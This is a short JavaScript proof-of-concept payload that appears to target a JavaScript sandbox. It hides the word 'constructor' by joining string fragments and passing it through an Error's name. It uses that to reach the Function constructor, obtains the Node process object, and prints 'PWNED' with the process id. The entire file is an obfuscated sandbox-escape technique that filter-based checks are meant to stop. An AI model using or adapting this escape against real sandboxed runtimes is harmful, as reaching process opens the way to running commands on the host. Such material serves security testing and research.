'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const put = Object.assign;
const e = put(new Error(''), { name: w });
console.log('PWNED', fn[String(e)]('return process')().pid);
